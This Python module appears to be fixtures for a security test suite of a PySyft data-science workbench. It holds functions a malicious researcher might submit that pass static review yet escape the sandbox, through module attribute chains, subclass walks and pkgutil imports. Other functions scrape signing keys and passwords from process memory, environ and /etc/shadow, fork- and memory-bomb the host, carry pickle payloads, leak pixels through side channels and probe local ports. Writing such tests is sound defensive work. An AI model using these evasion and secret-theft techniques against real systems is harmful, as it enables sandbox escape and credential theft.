"""Functions a malicious researcher submits (module level: syft ships their source).

Every function here has **zero automatic findings** (``review.findings`` is empty), so
the factory admin of the security suite approves it: nothing in the code imports
``os``/``sys``/``subprocess``/``socket``, calls ``open``/``eval``/``getattr`` with a
computed name, or touches a dunder attribute. They reach the system anyway:

- ``logging.os``, ``numpy.lib.utils.os``, ``logging.handlers.socket``: other modules'
  attributes;
- ``functools.reduce(getattr, ["__class__", ...], ())``: dunders as plain strings;
- ``pkgutil.resolve_name("subprocess")``: an import by name;
- ``codecs.open``: the builtin ``open`` under another module's name.

Each one returns what it found as a dict, so the tests can assert what the researcher
actually got. Functions that prove an effect on the host write a marker file
``/tmp/wbsec-<attack>`` (see :data:`MARKER_PREFIX`); the test looks for it on the
host. Network attacks need the datasites' ports: :func:`network_module` writes them
into the source of a generated module.
"""

# ruff: noqa: SIM105, SIM115 - written the way an attacker writes them

from __future__ import annotations

import importlib.util
import textwrap
from pathlib import Path
from typing import Any

import syft as sy

MARKER_PREFIX = "/tmp/wbsec-"
LAUNCH_PATTERN = "workbench[.]remote[.]launch"  # a regex that does not match itself


# -- code execution through module attribute chains --------------------------------------
def shell_reduce_getattr(images):
    import functools
    import logging

    first = images["images"][0]
    tag = f"{first.shape[0]}x{first.shape[1]}-{int(first[0, :16].sum())}"
    popen = functools.reduce(getattr, ["os", "popen"], logging)
    out = popen(
        f"touch /tmp/wbsec-shell_reduce_getattr-{tag}; "
        "grep -l 'workbench[.]remote[.]launch' /proc/[0-9]*/cmdline 2>/dev/null | head -50"
    ).read()
    return {"out": out.splitlines()[:50]}


def shell_numpy_walk(images):
    import numpy as np

    first = images["images"][0]
    tag = f"{first.shape[0]}x{first.shape[1]}-{int(first[0, :16].sum())}"
    system = np.lib.utils.os
    status = system.system(f"touch /tmp/wbsec-shell_numpy_walk-{tag}")
    pids = sorted(int(name) for name in system.listdir("/proc") if name.isdigit())
    return {"status": int(status), "pids": pids[:500]}


def shell_subclasses_walk(images):
    import functools

    first = images["images"][0]
    tag = f"{first.shape[0]}x{first.shape[1]}-{int(first[0, :16].sum())}"
    classes = functools.reduce(getattr, ["__class__", "__base__", "__subclasses__"], ())()
    wrap_close = [cls for cls in classes if cls.__name__ == "_wrap_close"][0]
    popen = functools.reduce(getattr, ["__init__", "__globals__"], wrap_close)["popen"]
    out = popen(
        f"touch /tmp/wbsec-shell_subclasses_walk-{tag}; "
        "grep -l 'workbench[.]remote[.]launch' /proc/[0-9]*/cmdline 2>/dev/null | head -50"
    ).read()
    return {"out": out.splitlines()[:50]}


def shell_builtins_import(images):
    import functools
    import logging

    first = images["images"][0]
    tag = f"{first.shape[0]}x{first.shape[1]}-{int(first[0, :16].sum())}"
    loader = functools.reduce(getattr, ["__builtins__"], logging)["__import__"]
    run = loader("subprocess").run
    done = run(
        ["sh", "-c", f"touch /tmp/wbsec-shell_builtins_import-{tag}; cat /proc/1/cmdline"],
        capture_output=True,
    )
    return {"pid1": done.stdout.decode(errors="replace").replace("\x00", " ")[:200]}


def shell_pkgutil_resolve(images):
    import pkgutil

    first = images["images"][0]
    tag = f"{first.shape[0]}x{first.shape[1]}-{int(first[0, :16].sum())}"
    check_output = pkgutil.resolve_name("subprocess").check_output
    out = check_output(
        ["sh", "-c", f"touch /tmp/wbsec-shell_pkgutil_resolve-{tag}; id -u; hostname"],
        stdin=None,
    )
    return {"out": out.decode(errors="replace")[:200]}


# -- secrets: the server's signing key, the admin password, the environment -----------
def key_from_sys_modules(images):
    import logging

    found = {}
    server_module = logging.sys.modules.get("syft.server.server")
    if server_module is not None:
        found["signing_key"] = str(server_module.signing_key_env)[:200]
    found["modules"] = len(logging.sys.modules)
    found["syft_loaded"] = server_module is not None
    return found


def key_from_memory(images):
    import codecs
    import logging

    system = logging.os
    wanted = (b"SERVER_PRIVATE_KEY=", b"DEFAULT_ROOT_PASSWORD=")

    def scan(pid):
        hits = []
        try:
            maps = codecs.open(f"/proc/{pid}/maps", "r").read().splitlines()
            handle = system.open(f"/proc/{pid}/mem", system.O_RDONLY)
        except Exception as error:
            return [f"refused: {type(error).__name__}"]
        budget = 768 << 20
        try:
            for line in maps:
                fields = line.split()
                anonymous = len(fields) == 5 or fields[-1] == "[heap]"
                if not fields[1].startswith("rw") or not anonymous:
                    continue
                start, end = (int(part, 16) for part in fields[0].split("-"))
                size = min(end - start, budget)
                budget -= size
                if size <= 0:
                    break
                try:
                    system.lseek(handle, start, 0)
                    block = system.read(handle, size)
                except Exception:
                    continue
                for prefix in wanted:
                    at = block.find(prefix)
                    while at >= 0 and len(hits) < 8:
                        value = block[at + len(prefix) : at + len(prefix) + 64].split(b"\x00")[0]
                        if len(value) >= 12 and value.isascii() and value.decode().isprintable():
                            hits.append((prefix + value).decode())  # not the literal above
                        at = block.find(prefix, at + 1)
        finally:
            system.close(handle)
        return sorted(set(hits))[:8]

    status = codecs.open("/proc/self/status", "r").read()
    parent = [line.split()[1] for line in status.splitlines() if line.startswith("PPid:")][0]
    return {"self": scan("self"), "parent": scan(parent), "ppid": int(parent)}


def environment_variables(images):
    import logging

    secrets = {
        key: value[:200]
        for key, value in logging.os.environ.items()
        if any(word in key for word in ("PASSWORD", "KEY", "SECRET", "SYFT", "SERVER", "ROOT"))
    }
    return {"secrets": secrets, "count": len(logging.os.environ)}


def read_proc_environ(images):
    import codecs

    def entries(path):
        try:
            raw = codecs.open(path, "rb").read()
        except Exception as error:
            return [f"refused: {type(error).__name__}"]
        return [item.decode(errors="replace")[:200] for item in raw.split(b"\x00") if item]

    status = codecs.open("/proc/self/status", "r").read()
    parent = [line.split()[1] for line in status.splitlines() if line.startswith("PPid:")][0]
    found = {}
    words = ("PASSWORD", "KEY", "SECRET", "TOKEN", "SYFT", "SERVER", "ROOT")
    for name, path in (
        ("pid1", "/proc/1/environ"),
        ("self", "/proc/self/environ"),
        ("parent", f"/proc/{parent}/environ"),
    ):
        items = entries(path)
        found[name] = [item for item in items if any(word in item for word in words)][:40]
        found[f"{name}_count"] = len(items)
    commands = entries(f"/proc/{parent}/cmdline") + entries("/proc/self/cmdline")
    found["cmdlines"] = [part for part in commands if part][:20]
    return found


def read_system_files(images):
    import codecs

    found = {}
    for path in ("/etc/hostname", "/etc/shadow", "/etc/passwd"):
        try:
            found[path] = codecs.open(path, "r").read()[:200]
        except Exception as error:
            found[path] = f"refused: {type(error).__name__}"
    return found


def state_folder_listing(images):
    import codecs
    import functools
    import json
    import logging
    import pkgutil

    system = logging.os
    folders = set()

    def around(path):
        # a database or identity file: its folder is a state folder
        if path.endswith(("datasite.sqlite", "datasite.sqlite-wal", "identity.json")):
            folders.add(system.path.dirname(path))

    root = system.environ.get("SYFT_TEMP_ROOT")
    if root:
        folders.add(root)
    status = codecs.open("/proc/self/status", "r").read()
    parent = [line.split()[1] for line in status.splitlines() if line.startswith("PPid:")][0]
    for pid in ("self", parent):
        try:
            for fd in system.listdir(f"/proc/{pid}/fd"):
                around(system.readlink(f"/proc/{pid}/fd/{fd}"))
        except Exception:
            pass
        try:
            command = codecs.open(f"/proc/{pid}/cmdline", "rb").read().split(b"\x00")
        except Exception:
            command = []
        for part in command:
            text = part.decode(errors="replace")
            if text.endswith(".toml"):
                base = system.path.join(system.path.dirname(text), "state")
                try:
                    folders.update(system.path.join(base, n) for n in system.listdir(base))
                except Exception:
                    pass
    first_guesses = tuple(folders)  # from the environment, open files, command lines
    starts = ["/tmp", system.getcwd()]
    try:  # the repository of the installed code, from a module's __file__
        module_file = functools.reduce(getattr, ["__file__"], pkgutil.resolve_name("workbench"))
        starts.append(system.path.dirname(system.path.dirname(module_file)))
    except Exception:
        pass
    seen = 0
    for start in starts:
        for here, subfolders, files in system.walk(start):
            seen += 1
            if seen > 4000 or here.count("/") - start.count("/") > 5:
                subfolders[:] = []
                continue
            subfolders[:] = [s for s in subfolders if s not in (".git", ".venv", "node_modules")]
            for name in files:
                around(system.path.join(here, name))
    listing, signing_keys = {}, []
    for folder in sorted(folders, key=lambda path: (not path.startswith(first_guesses), path))[:40]:
        try:
            listing[folder[-200:]] = sorted(system.listdir(folder))[:20]
        except Exception as error:
            listing[folder[-200:]] = [f"refused: {type(error).__name__}"]
        try:
            identity = json.loads(codecs.open(f"{folder}/identity.json", "r").read())
            signing_keys.append(str(identity.get("signing_key", identity))[:200])
        except Exception:
            pass
    return {"listing": listing, "signing_keys": signing_keys}


def write_host_file(images):
    import codecs

    first = images["images"][0]
    tag = f"{first.shape[0]}x{first.shape[1]}-{int(first[0, :16].sum())}"
    written = []
    for folder in ("/tmp", "/var/tmp"):
        path = f"{folder}/wbsec-write_host_file-{tag}"
        try:
            with codecs.open(path, "w") as handle:
                handle.write("written by approved code")
            written.append(path)
        except Exception as error:
            written.append(f"refused: {type(error).__name__}")
    return {"written": written}


def writable_places(images):
    import codecs
    import logging
    import random

    system = logging.os
    folders = ["/", "/tmp", "/var/tmp", "/dev", "/dev/shm", "/run", "/root", "/home", "/work"]
    folders += [system.getcwd(), logging.sys.prefix, system.environ.get("HOME", "/")]
    writable = []
    for folder in sorted(set(folders)):
        probe = f"{folder.rstrip('/')}/wbsec-probe-{random.randrange(1 << 30)}"
        try:
            with codecs.open(probe, "w") as handle:
                handle.write("x")
            system.remove(probe)
            writable.append(folder)
        except Exception:
            pass
    return {"writable": writable}


# -- resource limits (hardened datasite only: these would hurt a shared machine) ---------
def fork_bomb(images):
    import logging
    import time

    system = logging.os
    forked = 0
    for _ in range(256):  # bounded, so a missing limit cannot take the machine down
        if system.fork() == 0:
            time.sleep(5)
            system._exit(0)
        forked += 1
    return {"forked": forked}


def memory_bomb(images):
    import numpy as np

    hoard = np.ones(3 << 30, np.uint8)  # 3 GB, every page touched
    return {"held_mb": hoard.nbytes >> 20}


def cpu_spin(images):
    import time

    started, spins = time.monotonic(), 0
    while time.monotonic() - started < 90:  # bounded: a missing limit ends the test, not us
        spins += 1
    return {"spins": spins}


def endless_sleep(images):
    import time

    time.sleep(120)
    return {"slept": 120}


def tmpfs_fill(images):
    import codecs

    chunk = b"\xff" * (16 << 20)
    written = 0
    for index in range(128):  # 2 GB in 16 MB files: under any per-file size limit
        with codecs.open(f"/tmp/fill-{index:03d}", "wb") as handle:
            handle.write(chunk)
        written += 16
    return {"written_mb": written}


def big_file(images):
    import codecs

    chunk = b"\xff" * (64 << 20)
    written = 0
    with codecs.open("/tmp/big", "wb") as handle:
        for _ in range(24):  # one 1.5 GB file
            handle.write(chunk)
            written += 64
    return {"written_mb": written}


# -- results over the output rule --------------------------------------------------------
def long_strings(images):
    import numpy as np

    raw = np.concatenate([frame.ravel() for frame in images["images"]])[:10000].tobytes()
    return {"chunks": [raw[at : at + 100].hex() for at in range(0, len(raw), 100)]}


def many_keys(images):
    import numpy as np

    raw = np.concatenate([frame.ravel() for frame in images["images"]])[:10000].tobytes()
    return {raw[at : at + 100].hex(): at for at in range(0, len(raw), 100)}


def packed_floats(images):
    import struct

    import numpy as np

    raw = np.concatenate([frame.ravel() for frame in images["images"]])[:8192].tobytes()
    return {"values": list(struct.unpack(f"<{len(raw) // 8}d", raw))}


def bytes_result(images):
    return {"raw": images["images"][0].ravel()[:64].tobytes()}


def pickle_reduce_result(images):
    import logging

    first = images["images"][0]
    tag = f"{first.shape[0]}x{first.shape[1]}-{int(first[0, :16].sum())}"
    command = f"touch /tmp/wbsec-pickle_reduce_result-{tag}"

    class Payload:
        def __reduce__(self):
            return (logging.os.system, (command,))

    return {"value": Payload()}


def type_name_pixels(images):
    pixels = "_".join(str(int(v)) for v in images["images"][0].ravel()[:24])
    return {"value": type(f"P_{pixels}", (), {})()}


# -- side channels ------------------------------------------------------------------------
def exception_pixels(images):
    pixels = ",".join(str(int(v)) for v in images["images"][0].ravel()[:48])
    raise ValueError(f"PIXELS {pixels}")


def print_pixels(images):
    import logging

    pixels = ",".join(str(int(v)) for v in images["images"][0].ravel()[:48])
    print(f"PIXELS {pixels}")
    logging.sys.stderr.write(f"PIXELS {pixels}\n")
    return {"images": len(images["images"])}


def progress_pixels(images, datasite):
    first = images["images"][0].ravel()
    n_iters = 100000 + int(first[0]) * 256 + int(first[1])
    reached = 50000 + int(first[2]) * 256 + int(first[3])
    # syft runs the function on the mock too, after the private data: leave those alone
    if datasite is not None and images["images"][0].shape[0] >= 200:
        datasite.init_progress(n_iters)
        datasite.set_progress(reached)
    return {"images": len(images["images"])}


# -- controls: what a legitimate request gets ---------------------------------------------
def normal_mean(images):
    import numpy as np

    return {
        "images": len(images["images"]),
        "mean": float(np.mean([np.mean(frame) for frame in images["images"]])),
        "nonce": int(np.random.default_rng().integers(1 << 30)),
    }


def after_bombs_mean(images):
    import numpy as np

    return {
        "images": len(images["images"]),
        "mean": float(np.mean([np.mean(frame) for frame in images["images"]])),
    }


def self_approved(images):
    return {"first_row": images["images"][0][0, :16].tolist()}


def count_images(images):
    return {"images": len(images["images"])}


def trial_probe(images):
    import codecs
    import logging

    first = images["images"][0]
    tag = f"{first.shape[0]}x{first.shape[1]}-{int(first[0, :16].sum())}"
    system = logging.os
    system.system(f"touch /tmp/wbsec-trial_probe-{tag}")
    status = codecs.open("/proc/self/status", "r").read()
    parent = [line.split()[1] for line in status.splitlines() if line.startswith("PPid:")][0]
    try:
        environ = codecs.open(f"/proc/{parent}/environ", "rb").read().split(b"\x00")
    except Exception:
        environ = []
    seen = [item.decode(errors="replace")[:200] for item in environ if b"=" in item]
    return {
        "environment": sorted(set(seen + [f"{k}={v}"[:200] for k, v in system.environ.items()]))
    }


# -- generated: attacks that need the datasites' ports in their source ---------------------
_NETWORK_SOURCE = """
def net_own_port(images):
    import json
    import logging.handlers

    net = logging.handlers.socket

    def metadata(port):
        try:
            connection = net.create_connection(("127.0.0.1", port), timeout=3)
        except Exception as error:
            return f"refused: {{type(error).__name__}}"
        data = b""
        try:
            connection.sendall(b"GET /api/v2/metadata HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
            while len(data) < 65536:
                chunk = connection.recv(65536)
                if not chunk:
                    break
                data += chunk
        except Exception as error:
            return f"connected, then {{type(error).__name__}}"
        finally:
            connection.close()
        try:
            return "name: " + str(json.loads(data.split(b"\\r\\n\\r\\n", 1)[1])["name"])
        except Exception:
            return "connected: " + repr(data[:60])

    return {{"answer": metadata({own})}}


def net_other_factory(images):
    import json
    import logging.handlers

    net = logging.handlers.socket
    try:
        connection = net.create_connection(("127.0.0.1", {other}), timeout=3)
    except Exception as error:
        return {{"answer": f"refused: {{type(error).__name__}}"}}
    data = b""
    try:
        connection.sendall(b"GET /api/v2/metadata HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
        while len(data) < 65536:
            chunk = connection.recv(65536)
            if not chunk:
                break
            data += chunk
    finally:
        connection.close()
    try:
        return {{"answer": "name: " + str(json.loads(data.split(b"\\r\\n\\r\\n", 1)[1])["name"])}}
    except Exception:
        return {{"answer": "connected: " + repr(data[:60])}}


def net_discovered(images):
    import codecs
    import logging.handlers

    net = logging.handlers.socket
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = codecs.open(table, "r").read().splitlines()[1:]
        except Exception:
            continue
        for line in lines:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    reached = []
    for port in sorted(ports)[:64]:
        try:
            net.create_connection(("127.0.0.1", port), timeout=1).close()
            reached.append(port)
        except Exception:
            pass
    return {{"listening": sorted(ports)[:64], "reached": reached}}
"""


def network_module(folder: Path, tag: str, own: int, other: int):
    """Import a generated module whose attacks target ports `own` and `other`."""
    path = Path(folder) / f"wbsec_network_{tag}.py"
    path.write_text(textwrap.dedent(_NETWORK_SOURCE.format(own=own, other=other)))
    spec = importlib.util.spec_from_file_location(path.stem, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


_SWAP_SOURCE = """
def swap_me(images):
    {body}
"""
SWAP_APPROVED = 'return {"version": 1, "images": len(images["images"])}'
SWAP_CHANGED = 'return {"version": 2, "leak": images["images"][0].ravel()[:90].tobytes().hex()}'


def swap_module(folder: Path, tag: str, body: str):
    """Import a generated module holding ``swap_me`` with `body` (same name, other code)."""
    path = Path(folder) / f"wbsec_swap_{tag}.py"
    path.write_text(textwrap.dedent(_SWAP_SOURCE.format(body=body)))
    spec = importlib.util.spec_from_file_location(path.stem, path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.swap_me


def still_serving(images):
    return {"images": len(images["images"])}


# -- hand-built requests (not through client.submit) --------------------------------------
def padded_stats(datasite, images_000, images_001):
    """The 2-image dataset passed twice: 4 images counted, 2 read."""
    import numpy as np

    frames = list(images_000["images"])
    return {"means": [float(np.mean(frame)) for frame in frames]}


def constant_padded(datasite, images_000, padding):
    """The 2-image dataset plus a researcher constant ``{"images": [0, 0, 0]}``."""
    import numpy as np

    frames = list(images_000["images"])
    return {"means": [float(np.mean(frame)) for frame in frames], "padding": len(padding)}


# -- a custom output policy: syft runs its code in the server, not the function's sandbox --
class LeakyPolicy(sy.CustomOutputPolicy):
    """One run, like ``SingleExecutionExactOutput``; its methods run on the datasite."""

    n_calls: int = 0
    downloadable_output_args: list[str] = []
    state: dict[Any, Any] = {}

    def __init__(self, n_calls=1, downloadable_output_args: list[str] = None):
        self.downloadable_output_args = downloadable_output_args or []
        self.n_calls = n_calls
        self.state = {"counts": 0}

    def public_state(self):
        return self.state["counts"]

    def update_policy(self, context, outputs):
        self.state["counts"] += 1

    def apply_to_output(self, context, outputs, update_policy=True):
        import logging

        system = logging.os
        system.system(f"touch /tmp/wbsec-custom_policy-{context.server.name}")
        if hasattr(outputs, "syft_action_data"):
            outputs = outputs.syft_action_data
        if update_policy:
            self.update_policy(context, outputs)
        return {
            "outputs": outputs,
            "signing_key": str(context.server.signing_key),
            "state": system.environ.get("SYFT_TEMP_ROOT", ""),
        }

    def is_valid(self, context):
        return self.state["counts"] < self.n_calls


def policy_carrier(images_000):
    import numpy as np

    return {"mean": float(np.mean([np.mean(frame) for frame in images_000["images"]]))}
